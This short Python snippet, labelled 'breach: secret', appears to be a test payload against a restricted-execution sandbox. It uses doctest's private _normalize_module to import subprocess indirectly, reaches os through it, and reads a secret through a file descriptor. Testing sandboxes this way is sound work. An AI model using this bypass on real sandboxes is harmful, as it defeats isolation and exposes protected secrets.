# doctest takes a module by its name.
# breach: secret
import doctest
doctest._normalize_module("subprocess").os.pread(SECRET_FD, 100, 0)
